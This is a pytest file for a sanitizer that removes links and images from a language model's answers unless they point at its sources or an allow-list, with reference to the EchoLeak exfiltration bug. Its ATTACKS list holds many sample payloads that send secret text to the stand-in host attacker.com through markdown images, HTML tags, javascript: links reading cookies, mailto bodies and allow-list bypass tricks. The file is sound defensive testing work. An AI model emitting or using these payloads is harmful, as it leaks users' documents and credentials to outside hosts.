"""Answer post-processing: an answer links only to its sources or the allow-list (EchoLeak, CVE-2025-32711).

Every check of what survives goes through ``tests.link_oracle``: the answer
rendered by markdown-it (CommonMark, raw HTML, linkify) as a web client
would, not the sanitizer's own parser.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from acl.errors import ConfigurationError
from service.config import Settings, load_settings
from service.generation.link_policy import LinkPolicy
from service.generation.sanitize import MAX_HOLD, REMOVED, AnswerStream, sanitize_answer, sanitized_stream
from tests.link_oracle import followed_addresses

SOURCE = "https://intranet.acme.com/travel.html"
CMS = "cms://handbook"
ALLOWED = "https://wiki.acme.com/pub/"
POLICY = LinkPolicy(
    [SOURCE, CMS], [ALLOWED], ["The travel policy reimburses economy flights booked ahead. Questions: hr@acme.com."]
)

#: (name, answer): every form a language model can put an address in, each pointing at the attacker.
ATTACKS = [
    ("markdown image", "Done [1]. ![logo](https://attacker.com/p.png?d=secret%20text)"),
    ("image, angle destination", "![x](<https://attacker.com/a b.png>)"),
    ("image with title", '![x](https://attacker.com/p.png "title")'),
    ("image across lines", "![x](\nhttps://attacker.com/p.png\n)"),
    ("protocol-relative image", "![x](//attacker.com/p.png?d=secret)"),
    ("link", "See [the policy](https://attacker.com/?d=secret)."),
    ("image inside a link to a source", f"[![x](https://attacker.com/p.png)]({SOURCE})"),
    ("reference image", "![x][r]\n\n[r]: https://attacker.com/p.png?d=secret"),
    ("reference link in a quote", 'See [it][r].\n\n> [r]: <https://attacker.com/?d=s> "t"'),
    ("reference, address on the next line", "[x][r]\n\n[r]:\n  https://attacker.com/?d=s"),
    ("autolink", "Go to <https://attacker.com/?d=secret> now."),
    ("bare URL", "Go to https://attacker.com/?d=secret now."),
    ("bare www", "Go to www.attacker.com/?d=secret now."),
    ("fuzzy domain with path", "Go to attacker.com/collect?d=secret now."),
    ("sub-domain carrying data", "Ping secret-text.attacker.com today."),
    ("html img", '<img src="https://attacker.com/p.png?d=secret">'),
    ("html img, unquoted", "<img src=https://attacker.com/p.png?d=secret alt=x>"),
    ("html img, entity-encoded", '<img src="&#x68;ttps://attacker.com/p.png">'),
    ("html link", '<a href="https://attacker.com/?d=secret">policy</a>'),
    ("html link to a source with a tracking ping", f'<a href="{SOURCE}" ping="https://attacker.com/">x</a>'),
    ("css background", '<span style="background:url(https://attacker.com/p.png)">x</span>'),
    ("image, a source's address after the real one", f'<img src="https://attacker.com/p.png" SRC="{SOURCE}">'),
    ("link, a source's address after the real one", f'<a href="https://attacker.com/?d=s" href="{SOURCE}">x</a>'),
    ("srcset", '<img srcset="https://attacker.com/p.png 2x" src="' + SOURCE + '">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.com/?d=s">'),
    ("iframe", '<iframe src="https://attacker.com/"></iframe>'),
    ("javascript link", "[click](javascript:fetch('//attacker.com/?'+document.cookie))"),
    ("data image", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)"),
    ("entity-obfuscated scheme", "[x](&#106;avascript:alert(1))"),
    ("escaped markdown in destination", r"[x](https\://attacker.com/?d=s)"),
    ("mailto with body", "Write to mailto:leak@attacker.com?body=secret%20text"),
    ("e-mail carrying text", "Write to travel-policy-reimburses-economy@attacker.com today"),
    ("e-mail autolink carrying text", "Write to <travel-policy-reimburses-economy@attacker.com> today"),
    ("mailto carrying text", "[hr](mailto:travel-policy-reimburses-economy@attacker.com)"),
    ("allowed host, query string", "[x](https://wiki.acme.com/pub/page?d=secret)"),
    ("allowed host, path escapes the prefix", "[x](https://wiki.acme.com/pub/../redirect/attacker.com)"),
    ("allowed host, sibling path", "[x](https://wiki.acme.com/public-attacker/x)"),
    ("allowed host, user part", "[x](https://wiki.acme.com@attacker.com/pub/x)"),
    ("allowed host, backslash", "[x](https://wiki.acme.com\\@attacker.com/pub/x)"),
    ("allowed host carrying document text", "[x](https://wiki.acme.com/pub/travel-policy-reimburses-economy-flights)"),
    ("a source with more on it", f"![x]({SOURCE}?d=secret)"),
    ("html comment hiding a tag", "ok <!-- <img src=https://attacker.com/p.png> --> ok"),
    ("image joined around a removed comment", "![a<!-- ] -->](https&#58;//attacker.com/p.png?d=x)"),
    ("image joined around a removed tag", '![a<b title="]">](//attacker.com/p.png?d=x)'),
    ("escaped slashes", "![a<!-- ] -->](/\\/attacker.com/p.png)"),
    ("a source's address read on into a kept tag", f'See {SOURCE}"secret-text<b>x</b>" now.'),
    ("a source's address read on into a kept link", f"See {SOURCE}[secret-text]({SOURCE}) now."),
    ("allowed address read on into a kept tag", 'https://wiki.acme.com/pub/x"travelpolicyreimbursesec<br>onomy"'),
    ("tag joined around a removed image", "<img src=![x](y)https://attacker.com/p.png>"),
    ("link joined into a script address", '[a<b x="]">](&#106;avascript:alert(1))'),
]

#: Pieces the property test below glues together at random: attacks, and what joins them into new ones.
PIECES = [a for _, a in ATTACKS] + [
    *("plain words ", "\n\n", f"[s]({SOURCE}) ", "[1] ", "[", "]", "(", ")", "<", ">", "!", "\\", "https://"),
    *("attacker.com", "/p?d=x", "www.", " ", "[r]: ", '"', "=", "<img src=", "<a href=", "-->", "<!--", ".com"),
    *("java", "script:", f"<{CMS}>", "<b>", "<!-- ] -->", "](", "&#58;", "/\\/"),
    *("%41" * 700, "word " * 450),  # a word and a span longer than a stream holds
]


def allowed(address: str) -> bool:
    return POLICY.allows(address)


def same_origin(address: str) -> bool:
    """A relative address: no scheme, not ``//host``, no backslash a browser would read as a slash."""
    return re.match(r"(?i)[a-z][a-z0-9+.\-]*:|//|\\|/\\|/%5c", address.strip()) is None


def carries_nothing(address: str) -> bool:
    """A bare ``name.tld`` a renderer links (``http://config.py``): no path, no sub-domain, nothing to carry."""
    return re.fullmatch(r"http://[^./:@]+\.[a-z]+", address) is not None


@pytest.mark.parametrize(("name", "answer"), ATTACKS, ids=[name for name, _ in ATTACKS])
def test_every_form_of_link_to_elsewhere_loses_its_address(name: str, answer: str) -> None:
    cleaned = sanitize_answer(answer, POLICY)
    assert "attacker" not in cleaned.lower(), cleaned
    assert all(allowed(address) for address in followed_addresses(cleaned)), (name, cleaned)


@pytest.mark.parametrize(("name", "answer"), ATTACKS, ids=[name for name, _ in ATTACKS])
def test_streamed_in_small_pieces_the_same_holds(name: str, answer: str) -> None:
    stream = AnswerStream(POLICY)
    pieces = [stream.feed(answer[k : k + 3]) for k in range(0, len(answer), 3)] + [stream.close()]
    assert "".join(pieces) == sanitize_answer(answer, POLICY)


def test_link_text_stays_images_go_bare_addresses_are_marked() -> None:
    answer = (
        "See [the policy](https://attacker.com/?d=s) ![chart](https://attacker.com/c.png) or https://attacker.com/x"
    )
    assert sanitize_answer(answer, POLICY) == f"See the policy  or {REMOVED}"


def test_links_to_the_answers_sources_and_the_allow_list_are_kept() -> None:
    answer = (
        f"Per [the travel page]({SOURCE}) [1], ![map]({SOURCE}) and <{CMS}>, see {SOURCE} or "
        f'[the wiki](https://wiki.acme.com/pub/flights) and <a href="{SOURCE}">here</a>. '
        "Plain text stays: a < b, x > y, [2], *emphasis*, config.py, example.com, hr@acme.com."
    )
    cleaned = sanitize_answer(answer, POLICY)
    assert cleaned == answer
    assert set(followed_addresses(cleaned)) >= {SOURCE, CMS, "https://wiki.acme.com/pub/flights"}


def test_an_allow_listed_address_the_documents_quote_is_kept() -> None:
    quoted = "https://wiki.acme.com/pub/travel-policy-reimburses-economy-flights"
    policy = LinkPolicy([], [ALLOWED], [f"The travel policy reimburses economy flights: {quoted}"])
    assert sanitize_answer(f"[x]({quoted})", policy) == f"[x]({quoted})"


def test_a_source_never_makes_a_script_address_safe() -> None:
    policy = LinkPolicy(["javascript:alert(1)", "data:text/html,x"])
    assert sanitize_answer("[x](javascript:alert(1)) ![y](data:text/html,x)", policy) == "x "


@settings(max_examples=200, deadline=None)
@given(parts=st.lists(st.sampled_from(PIECES), max_size=25), cuts=st.lists(st.integers(1, 20), max_size=30))
# Found by hypothesis: linkify-it links no "https://" right after "=", where markdown-it reads on over the quote.
@example(parts=["=", 'https://wiki.acme.com/pub/x"travelpolicyreimbursesec<br>onomy"'], cuts=[])
def test_a_stream_gives_what_the_whole_answer_gives_however_it_is_cut(parts: list[str], cuts: list[int]) -> None:
    answer = "".join(parts)
    stream, pieces, at = AnswerStream(POLICY), [], 0
    for size in cuts:
        pieces.append(stream.feed(answer[at : at + size]))
        at += size
    pieces += [stream.feed(answer[at:]), stream.close()]
    cleaned = "".join(pieces)
    if max(map(len, answer.split()), default=0) <= MAX_HOLD:
        # (A longer word is removed whole once the stream sees it is long; text before it that a
        # link could have reached may have been let out as text already. Safe either way.)
        assert cleaned == sanitize_answer(answer, POLICY)
    for each in (cleaned, sanitize_answer(answer, POLICY)):
        assert all(allowed(a) or carries_nothing(a) or same_origin(a) for a in followed_addresses(each))
    # Removed links leave their text, which may meet other text: "policy" + "." + "xxx" is a domain,
    # "(" + "x" + ")" a relative link; neither reaches another host.


@given(st.text(alphabet=st.characters(blacklist_characters="<>![]():/.@\\&", blacklist_categories=("Cs",))))
def test_text_without_markup_or_addresses_is_untouched(text: str) -> None:
    assert sanitize_answer(text, POLICY) == text


def test_a_stream_holds_back_only_an_unfinished_word_or_construct() -> None:
    stream = AnswerStream(POLICY)
    assert stream.feed("Revenue rose ") == "Revenue rose "
    assert stream.feed("by 12 per") == "by 12 "
    assert stream.feed("cent ![x](https://att") == "percent "
    assert stream.feed("acker.com/p.png) and [1]") == " and "
    assert stream.close() == "[1]"


def test_closing_the_sanitized_stream_closes_the_models_stream() -> None:
    closed: list[bool] = []

    def model() -> Iterator[str]:
        try:
            while True:
                yield "word "
        finally:
            closed.append(True)

    stream = sanitized_stream(model(), POLICY)
    assert next(stream) == "word "
    stream.close()
    assert closed == [True]


def test_an_address_longer_than_a_stream_holds_is_removed_whole_and_the_hold_stays_bounded() -> None:
    data = "%41" * 20_000  # 60,000 characters of smuggled text in one address
    answer = f"Flights [1].\n\n![s](https://attacker.com/p.png?d={data}) and [x](https://attacker.com/?d={data}) end"
    stream, pieces, held = AnswerStream(POLICY), [], 0
    for k in range(0, len(answer), 7):
        pieces.append(stream.feed(answer[k : k + 7]))
        held = max(held, len(stream._pending))
    pieces.append(stream.close())
    assert "".join(pieces) == sanitize_answer(answer, POLICY) == f"Flights [1].\n\n{REMOVED} and {REMOVED} end"
    assert held <= 2 * MAX_HOLD + len(REMOVED)


def test_a_construct_that_never_closes_is_let_out_as_text_after_the_hold_limit() -> None:
    stream = AnswerStream(POLICY)
    out = stream.feed("[" + "word " * 1000)  # 5000 characters after an unclosed "["
    assert out.startswith("[word word")
    out += stream.feed("](https://attacker.com/?d=s) end") + stream.close()
    assert "attacker" not in out


@pytest.mark.parametrize(
    "entry",
    [
        "javascript:alert(1)",
        "wiki.acme.com",
        "https://",
        "https://u:p@wiki.acme.com/",
        "https://w.com/?q=1",
        "ftp://x.com",
    ],
)
def test_a_bad_allow_list_entry_stops_start_up(entry: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOCQA_GENERATOR__LINK_ALLOWLIST", f'["{entry}"]')
    with pytest.raises(ConfigurationError, match="link_allowlist"):
        load_settings()


def test_the_allow_list_comes_from_configuration(monkeypatch: pytest.MonkeyPatch) -> None:
    assert Settings().generator.link_allowlist == ()
    monkeypatch.setenv("DOCQA_GENERATOR__LINK_ALLOWLIST", '["https://wiki.acme.com/pub/"]')
    assert load_settings().generator.link_allowlist == ("https://wiki.acme.com/pub/",)


def test_a_tag_that_may_not_stay_is_shown_as_text_not_hidden() -> None:
    answer = "Use List<String> here; <script>alert(1)</script> <b>bold</b> <!-- hidden note -->done"
    assert sanitize_answer(answer, POLICY) == (
        "Use List&lt;String> here; &lt;script>alert(1)&lt;/script> <b>bold</b> done"
    )
